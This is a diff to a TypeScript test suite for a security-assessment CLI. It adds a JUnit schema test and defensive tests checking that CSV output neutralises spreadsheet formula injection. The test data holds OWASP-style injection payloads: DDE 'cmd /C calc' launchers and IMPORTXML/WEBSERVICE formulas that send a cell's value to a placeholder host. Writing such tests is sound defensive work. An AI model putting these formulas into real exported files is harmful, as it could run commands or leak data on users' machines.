@@ -4,7 +4,11 @@ import type { Assessment } from '../../src/scoring/assessment.js';
 import { nodesOfType, parseMarkdown, parseMermaid, parseXml, raggedTables, sarifSchemaErrors, tableLines } from '../helpers/consumers.js';
 import { runBinary } from '../helpers/cli.js';
 import { CSV_COLUMNS, csvField } from '../../src/report/csv.js';
-import { gitlabCodeQualityErrors, parseCsv } from '../helpers/machine-consumers.js';
+import { gitlabCodeQualityErrors, hasXmllint, junitSchemaErrors, parseCsv } from '../helpers/machine-consumers.js';
+import { mkdtempSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import fc from 'fast-check';
 
 const EXAMPLE = ['assess', '-a', 'examples/council-cyber-resilience.answers.yaml', '--today', '2026-11-23'];
 const HOSTILE = ['assess', '-q', 'test/fixtures/hostile-render/hostile.yaml', '-a', 'test/fixtures/hostile-render/hostile.answers.yaml', '--today', '2026-11-23'];
@@ -64,6 +68,16 @@ describe.each([
       a.gaps.map((g) => ({ startLine: g.location?.line, startColumn: g.location?.column, endLine: g.location?.line, endColumn: (g.location?.column ?? 0) + g.question.length })),
     );
     expect(run?.results.filter((r) => r.suppressions).length).toBe(a.gaps.filter((g) => g.accepted).length);
+  });
+
+  it('junit: valid against the Jenkins junit-10.xsd, with and without gates', async () => {
+    if (!hasXmllint()) return;
+    const dir = mkdtempSync(join(tmpdir(), 'cyber-ready-junit-'));
+    for (const [name, gates] of [['plain', []], ['gated', ['--fail-on', 'high', '--min-score', '90', '--fail-on-stale']]] as const) {
+      const r = await runBinary({ args: [...args, ...gates, '--format', 'junit', '-o', join(dir, `${name}.xml`)] });
+      expect([0, 1], r.stderr).toContain(r.code);
+      expect(junitSchemaErrors(join(dir, `${name}.xml`))).toBe('');
+    }
   });
 
   it('gitlab: valid Code Quality, one issue per gap at its answer, with distinct fingerprints', async () => {
@@ -183,6 +197,32 @@ describe('csv made safe for spreadsheets', () => {
     ['safe = later', 'safe = later'],
   ])('%j becomes %j', (value, field) => {
     expect(csvField(value)).toBe(field);
+  });
+
+  // Payloads from the OWASP "CSV Injection" page and its usual variants.
+  it.each([
+    "=cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+2+5+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    '=IMPORTXML(CONCAT("http://example.invalid/?v=", A1), "//a")',
+    '=WEBSERVICE("http://example.invalid")',
+    "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
+    '\t=1+1',
+    '\r=1+1',
+    '\r\n=1+1',
+  ])('the payload %j reads back as text', (payload) => {
+    const [cell] = parseCsv(`${csvField(payload)}\r\n`)[0] ?? [];
+    expect(cell).toBe(`'${payload}`);
+  });
+
+  it('any text reads back exactly, behind an apostrophe only when it would start a formula', () => {
+    fc.assert(
+      fc.property(fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', ',', '"', "'", 'a', ' ', '£') }), (text) => {
+        const [cell] = parseCsv(`${csvField(text)},end\r\n`)[0] ?? [];
+        expect(cell).toBe(/^[=+\-@\t\r]/.test(text) ? `'${text}` : text);
+      }),
+    );
   });
 
   it('no cell of the action plan starts a formula, whatever the questionnaire and answers say', async () => {
